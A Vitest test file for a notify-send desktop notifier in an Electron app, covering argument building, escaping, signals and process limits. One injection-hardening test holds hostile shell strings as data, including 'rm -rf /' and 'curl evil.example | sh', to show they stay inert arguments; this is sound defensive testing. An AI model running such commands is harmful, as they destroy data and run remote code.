import { EventEmitter } from 'node:events';
import { afterEach, describe, expect, it, vi } from 'vitest';
import {
  bodyArg,
  notifySendArgs,
  NotifySendNotifier,
  type NotifySendProcess,
} from '../../../../electron/core/notify/notify-send-notifier.js';
import type { Log } from '../../../../electron/core/ports/log.js';
import type { DesktopNotification } from '../../../../electron/core/ports/notifier.js';

/** Emits synchronously, so a test reads like the process's life, line by line. */
class FakeStream extends EventEmitter {
  setEncoding(): this {
    return this;
  }
}

class FakeNotifySend extends EventEmitter {
  readonly stdout = new FakeStream();
  readonly stderr = new FakeStream();
  readonly signals: NodeJS.Signals[] = [];

  constructor(
    readonly command: string,
    readonly args: string[],
  ) {
    super();
  }

  kill(signal: NodeJS.Signals): boolean {
    this.signals.push(signal);
    return true;
  }

  print(text: string): void {
    this.stdout.emit('data', text);
  }

  exit(code: number | null, stderr = ''): void {
    if (stderr) this.stderr.emit('data', stderr);
    this.emit('close', code);
  }

  /** notify-send's own arguments, without the stdbuf in front. */
  get notifySendArgs(): string[] {
    return this.command === 'stdbuf' ? this.args.slice(2) : this.args;
  }
}

const ackable: DesktopNotification = {
  id: 'pd:P1',
  title: '▲ HIGH · checkout-api',
  body: 'Checkout API p99 latency above 2 s',
  urgency: 'critical',
  actions: [{ id: 'ack', label: 'Acknowledge' }],
};

function setUp(lineBuffered = true, maxProcesses?: number) {
  const children: FakeNotifySend[] = [];
  const log: Log = { info: vi.fn(), warn: vi.fn(), error: vi.fn() };
  const handling = { sigint: true };
  const notifier = new NotifySendNotifier({
    lineBuffered,
    maxProcesses,
    log,
    handlesSigint: () => handling.sigint,
    spawn: (command, args) => {
      const child = new FakeNotifySend(command, args);
      children.push(child);
      return child as unknown as NotifySendProcess;
    },
  });
  const actions: [string, string][] = [];
  notifier.onAction((id, actionId) => actions.push([id, actionId]));
  const child = (index: number) => {
    const found = children[index];
    if (!found) throw new Error(`no notify-send #${index}`);
    return found;
  };
  return { notifier, children, child, actions, log, handling };
}

afterEach(() => {
  vi.useRealTimers();
});

describe('notifySendArgs', () => {
  it('builds the notify-send command line, text last and after --', () => {
    expect(notifySendArgs(ackable)).toEqual([
      '--app-name=Onwatch',
      '--urgency=critical',
      '--action=ack=Acknowledge',
      '--action=default=Open',
      '--wait',
      '--print-id',
      '--',
      '▲ HIGH · checkout-api',
      'Checkout API p99 latency above 2 s',
    ]);
  });

  it('replaces an earlier notification by the daemon id', () => {
    const args = notifySendArgs({ ...ackable, urgency: 'normal', actions: [] }, 42);
    expect(args).toContain('--urgency=normal');
    expect(args).toContain('--replace-id=42');
    expect(args).not.toContain('--action=ack=Acknowledge');
    expect(args.indexOf('--replace-id=42')).toBeLessThan(args.indexOf('--'));
  });

  it('passes hostile text as inert arguments that cannot become options', () => {
    const args = notifySendArgs({
      ...ackable,
      title: '--urgency=low $(rm -rf /) `reboot`; echo "x" | sh',
      body: '$(rm -rf /) && curl evil.example | sh',
    });
    const separator = args.indexOf('--');
    expect(args.slice(separator + 1)).toEqual([
      '--urgency=low $(rm -rf /) `reboot`; echo "x" | sh',
      '$(rm -rf /) &amp;&amp; curl evil.example | sh',
    ]);
    expect(args.slice(0, separator).filter((a) => a.startsWith('--urgency='))).toEqual([
      '--urgency=critical',
    ]);
  });

  it('escapes markup in the body, and keeps the title plain', () => {
    const args = notifySendArgs({
      ...ackable,
      title: '<b>bold</b> & co',
      body: '<b>bold</b> <a href="http://x">link</a> <img src=x> &amp; 1 < 2 > 0',
    });
    expect(args.at(-2)).toBe('<b>bold</b> & co');
    expect(args.at(-1)).toBe(
      '&lt;b&gt;bold&lt;/b&gt; &lt;a href="http://x"&gt;link&lt;/a&gt; &lt;img src=x&gt; ' +
        '&amp;amp; 1 &lt; 2 &gt; 0',
    );
  });

  it('doubles backslashes, which notify-send would otherwise read as escapes', () => {
    expect(bodyArg(String.raw`C:\temp\new \u0041 \\`)).toBe(String.raw`C:\\temp\\new \\u0041 \\\\`);
  });

  it('keeps newlines in the body, puts the title on one line, and drops control characters', () => {
    const args = notifySendArgs({
      ...ackable,
      title: 'line one\nline\ttwo\r\n\u0000three\u001b[31m',
      body: 'first\r\nsecond\rthird\u0000\u0007\u001b[2J\tend',
    });
    expect(args.at(-2)).toBe('line one line two three[31m');
    expect(args.at(-1)).toBe('first\nsecond\nthird[2J\tend');
    expect(args.join('')).not.toContain('\u0000');
  });

  it('cuts very long text short, before escaping, so no entity or character is split', () => {
    const args = notifySendArgs({
      ...ackable,
      title: '🔥'.repeat(5_000),
      body: '&'.repeat(200_000),
    });
    const title = args.at(-2)!;
    const body = args.at(-1)!;
    expect(Array.from(title)).toHaveLength(200);
    expect(title).toBe(`${'🔥'.repeat(199)}…`);
    expect(body).toBe(`${'&amp;'.repeat(999)}…`);
  });

  it('refuses an action id that could be mistaken for another action or option', () => {
    for (const id of ['default', 'a=b', 'Ack', '', '--wait', 'ack now']) {
      expect(() => notifySendArgs({ ...ackable, actions: [{ id, label: 'x' }] }), id).toThrow(
        /invalid notification action id/,
      );
    }
  });
});

describe('NotifySendNotifier', () => {
  it('runs notify-send under stdbuf, one process per notification', () => {
    const { notifier, children } = setUp();
    notifier.show(ackable);
    notifier.show({ ...ackable, id: 'pd:P2' });

    expect(children.map((c) => [c.command, ...c.args.slice(0, 2)])).toEqual([
      ['stdbuf', '-oL', 'notify-send'],
      ['stdbuf', '-oL', 'notify-send'],
    ]);
    expect(children[0]!.notifySendArgs).toEqual(notifySendArgs(ackable));
  });

  it('runs notify-send itself when stdbuf is missing', () => {
    const { notifier, child } = setUp(false);
    notifier.show(ackable);
    expect(child(0).command).toBe('notify-send');
    expect(child(0).args).toEqual(notifySendArgs(ackable));
  });

  it('reports the action notify-send prints, and a body click as open', () => {
    const { notifier, child, actions } = setUp();
    notifier.show(ackable);
    notifier.show({ ...ackable, id: 'pd:P2' });
    child(0).print('7\n');
    child(0).print('ack\n');
    child(0).exit(0);
    child(1).print('8\ndefault\n');
    child(1).exit(0);

    expect(actions).toEqual([
      ['pd:P1', 'ack'],
      ['pd:P2', 'open'],
    ]);
  });

  it('reads output that only arrives at exit, or in pieces', () => {
    const { notifier, child, actions } = setUp(false);
    notifier.show(ackable);
    child(0).print('7\na');
    child(0).print('ck');
    child(0).exit(0);

    expect(actions).toEqual([['pd:P1', 'ack']]);
  });

  it('ignores output that is not one of the notification’s actions', () => {
    const { notifier, child, actions } = setUp();
    notifier.show({ ...ackable, actions: [] });
    child(0).print('7\nack\nresolve\n\n');
    child(0).exit(0);

    expect(actions).toEqual([]);
  });

  it('replaces a shown notification in place with --replace-id, and ignores the old process', () => {
    const { notifier, children, child, actions } = setUp();
    notifier.show({ ...ackable, urgency: 'normal' });
    child(0).print('7\n');
    notifier.show(ackable);

    expect(children).toHaveLength(2);
    expect(child(1).notifySendArgs).toEqual(notifySendArgs(ackable, 7));
    // SIGTERM: notify-send closes its notification on SIGINT, which would close the new one.
    expect(child(0).signals).toEqual(['SIGTERM']);

    child(0).print('ack\n');
    child(0).exit(null);
    expect(actions).toEqual([]);
    child(1).print('7\nack\n');
    expect(actions).toEqual([['pd:P1', 'ack']]);
  });

  it('waits for the daemon id before replacing a notification still being shown', () => {
    const { notifier, children, child } = setUp();
    notifier.show({ ...ackable, body: 'first' });
    notifier.show({ ...ackable, body: 'second' });
    notifier.show({ ...ackable, body: 'third' });
    expect(children).toHaveLength(1);

    child(0).print('7\n');
    expect(children).toHaveLength(2);
    expect(child(1).notifySendArgs).toEqual(notifySendArgs({ ...ackable, body: 'third' }, 7));
  });

  it('shows the newest version afresh when the one being shown ends without an id', () => {
    const { notifier, children, child } = setUp();
    notifier.show({ ...ackable, body: 'first' });
    notifier.show({ ...ackable, body: 'second' });
    child(0).exit(1, 'Cannot connect to the notification daemon');

    expect(children).toHaveLength(2);
    expect(child(1).notifySendArgs).toEqual(notifySendArgs({ ...ackable, body: 'second' }));
  });

  it('closes and reshows when it cannot learn the id of the notification to replace', () => {
    const { notifier, children, child } = setUp(false);
    notifier.show({ ...ackable, body: 'first' });
    notifier.show({ ...ackable, body: 'second' });

    expect(child(0).signals).toEqual(['SIGINT']);
    expect(children).toHaveLength(2);
    expect(child(1).args).toEqual(notifySendArgs({ ...ackable, body: 'second' }));
  });

  it('closes with SIGINT, which makes notify-send close its notification', () => {
    const { notifier, child, actions } = setUp();
    notifier.show(ackable);
    child(0).print('7\n');
    notifier.close('pd:P1');

    expect(child(0).signals).toEqual(['SIGINT']);
    child(0).print('ack\n');
    expect(actions).toEqual([]);
  });

  it('holds a close until the notification is up, so it is never stranded on screen', () => {
    const { notifier, children, child } = setUp();
    notifier.show(ackable);
    notifier.close('pd:P1');
    expect(child(0).signals).toEqual([]);

    notifier.show({ ...ackable, body: 'again' });
    expect(children).toHaveLength(2);
    child(0).print('7\n');
    expect(child(0).signals).toEqual(['SIGINT']);
    expect(child(1).signals).toEqual([]);
  });

  it('holds SIGINT until notify-send handles it, as it would otherwise die and strand its notification', () => {
    vi.useFakeTimers();
    const { notifier, child, handling } = setUp();
    handling.sigint = false;
    notifier.show(ackable);
    notifier.close('pd:P1');
    child(0).print('7\n');
    vi.advanceTimersByTime(50);
    expect(child(0).signals).toEqual([]);

    handling.sigint = true;
    vi.advanceTimersByTime(10);
    expect(child(0).signals).toEqual(['SIGINT']);
  });

  it('kills a notify-send that never comes to handle SIGINT', () => {
    vi.useFakeTimers();
    const { notifier, child, handling } = setUp();
    handling.sigint = false;
    notifier.show(ackable);
    child(0).print('7\n');
    notifier.close('pd:P1');
    vi.advanceTimersByTime(2_000);
    expect(child(0).signals).toEqual(['SIGKILL']);
    child(0).exit(null);
    vi.advanceTimersByTime(1_000);
    expect(child(0).signals).toEqual(['SIGKILL']);
  });

  it('kills a notify-send that ignores the signal', () => {
    vi.useFakeTimers();
    const { notifier, child } = setUp();
    notifier.show(ackable);
    child(0).print('7\n');
    notifier.close('pd:P1');
    vi.advanceTimersByTime(2_000);

    expect(child(0).signals).toEqual(['SIGINT', 'SIGKILL']);
  });

  it('does not kill a notify-send that has exited', () => {
    vi.useFakeTimers();
    const { notifier, child } = setUp();
    notifier.show(ackable);
    child(0).print('7\n');
    notifier.close('pd:P1');
    child(0).exit(0);
    vi.advanceTimersByTime(10_000);

    expect(child(0).signals).toEqual(['SIGINT']);
  });

  it('closes every notification on dispose and reports nothing after', () => {
    const { notifier, child, actions } = setUp();
    notifier.show(ackable);
    notifier.show({ ...ackable, id: 'pd:P2' });
    child(0).print('7\n');
    child(1).print('8\n');
    notifier.dispose();

    expect(child(0).signals).toEqual(['SIGINT']);
    expect(child(1).signals).toEqual(['SIGINT']);
    child(0).print('ack\n');
    expect(actions).toEqual([]);
  });

  it('starts afresh after a notification is dismissed', () => {
    const { notifier, children, child } = setUp();
    notifier.show(ackable);
    child(0).print('7\n');
    child(0).exit(0);
    notifier.show(ackable);

    expect(children).toHaveLength(2);
    expect(child(1).notifySendArgs).toEqual(notifySendArgs(ackable));
  });

  it('stops a notify-send whose notification the daemon refused', () => {
    const { notifier, child, log } = setUp();
    notifier.show(ackable);
    child(0).print('0\n');
    expect(child(0).signals).toEqual(['SIGTERM']);

    child(0).exit(null, 'GDBus.Error: refused');
    expect(log.warn).toHaveBeenCalledWith(expect.stringContaining('GDBus.Error: refused'));
  });

  it('logs a failure and survives a missing notify-send', () => {
    const { notifier, children, child, log } = setUp();
    notifier.show(ackable);
    child(0).emit('error', Object.assign(new Error('spawn stdbuf ENOENT'), { code: 'ENOENT' }));
    child(0).exit(-2);
    expect(log.error).toHaveBeenCalledWith('notify-send could not run: spawn stdbuf ENOENT');
    expect(log.warn).not.toHaveBeenCalled();

    notifier.show(ackable);
    expect(children).toHaveLength(2);
  });

  it('keeps reporting to other listeners when one throws', () => {
    const { notifier, child, actions, log } = setUp();
    notifier.onAction(() => {
      throw new Error('boom');
    });
    notifier.show(ackable);
    child(0).print('7\nack\n');

    expect(actions).toEqual([['pd:P1', 'ack']]);
    expect(log.error).toHaveBeenCalledWith(expect.stringContaining('boom'));
  });

  describe('with a cap on processes', () => {
    const page = (n: number, urgency: DesktopNotification['urgency'] = 'normal') => ({
      ...ackable,
      id: `pd:P${n}`,
      body: `page ${n}`,
      urgency,
    });
    /** The text of the notification each live child shows. */
    const bodies = (children: FakeNotifySend[]) => children.map((c) => c.notifySendArgs.at(-1));

    it('closes the oldest notification for a new one, and starts it once that process exits', () => {
      const { notifier, children, child } = setUp(true, 3);
      for (const n of [1, 2, 3]) notifier.show(page(n));
      children.forEach((c, i) => c.print(`${i + 1}\n`));
      notifier.show(page(4));

      expect(children).toHaveLength(3);
      expect(child(0).signals).toEqual(['SIGINT']);
      child(0).exit(0);
      expect(bodies(children)).toEqual(['page 1', 'page 2', 'page 3', 'page 4']);
    });

    it('pushes out non-critical notifications before critical ones', () => {
      const { notifier, child } = setUp(true, 3);
      notifier.show(page(1, 'critical'));
      notifier.show(page(2));
      notifier.show(page(3, 'critical'));
      [0, 1, 2].forEach((i) => child(i).print(`${i + 1}\n`));
      notifier.show(page(4, 'critical'));

      expect([0, 1, 2].map((i) => child(i).signals)).toEqual([[], ['SIGINT'], []]);
      notifier.show(page(5, 'critical'));
      expect(child(0).signals).toEqual(['SIGINT']);
    });

    it('never runs more processes than the cap, however many notifications arrive', () => {
      const { notifier, children } = setUp(true, 8);
      for (let n = 1; n <= 1_000; n++) notifier.show(page(n));
      expect(children).toHaveLength(8);

      // Each process that ends makes way for one of the newest notifications, never a stale one.
      for (const c of [...children]) c.exit(0);
      expect(children).toHaveLength(16);
      expect(bodies(children.slice(8))).toEqual(
        [993, 994, 995, 996, 997, 998, 999, 1000].map((n) => `page ${n}`),
      );
    });

    it('sends only the newest content of a notification still waiting for a process', () => {
      const { notifier, children, child } = setUp(true, 1);
      notifier.show(page(1));
      child(0).print('1\n');
      notifier.show(page(2));
      notifier.show({ ...page(2), body: 'page 2, updated' });
      notifier.show({ ...page(2), body: 'page 2, updated again' });
      child(0).exit(0);

      expect(bodies(children)).toEqual(['page 1', 'page 2, updated again']);
    });

    it('replaces in place at the cap once the old process has gone', () => {
      const { notifier, children, child } = setUp(true, 1);
      notifier.show(page(1));
      child(0).print('7\n');
      notifier.show({ ...page(1), urgency: 'critical' });

      expect(children).toHaveLength(1);
      expect(child(0).signals).toEqual(['SIGTERM']);
      child(0).exit(null);
      expect(child(1).notifySendArgs).toEqual(
        notifySendArgs({ ...page(1), urgency: 'critical' }, 7),
      );
    });

    it('still closes a replacement closed while it waited, as only its process can', () => {
      const { notifier, children, child } = setUp(true, 1);
      notifier.show(page(1));
      child(0).print('7\n');
      notifier.show({ ...page(1), body: 'replaced' });
      notifier.close('pd:P1');
      child(0).exit(null);

      expect(children).toHaveLength(2);
      expect(child(1).notifySendArgs).toContain('--replace-id=7');
      child(1).print('7\n');
      expect(child(1).signals).toEqual(['SIGINT']);
    });

    it('ends every process at once on dispose, and starts no waiting one', () => {
      const { notifier, children, child } = setUp(true, 3);
      notifier.show(page(1));
      notifier.show(page(2));
      notifier.show(page(3));
      child(0).print('1\n');
      child(1).print('2\n');
      notifier.show({ ...page(2), body: 'replaced' });
      notifier.show(page(4));
      notifier.show({ ...page(3), body: 'page 3, updated' });
      notifier.dispose();

      // Up: SIGINT closes the notification. Not up yet, or on its way out: SIGKILL.
      expect([0, 1, 2].map((i) => child(i).signals)).toEqual([
        ['SIGINT', 'SIGINT'],
        ['SIGTERM', 'SIGKILL'],
        ['SIGKILL'],
      ]);
      // An id printed too late to act on: the update it held for must not start a process.
      child(2).print('3\n');
      for (const c of [...children]) c.exit(null);
      notifier.show(page(5));
      expect(children).toHaveLength(3);
    });
  });
});
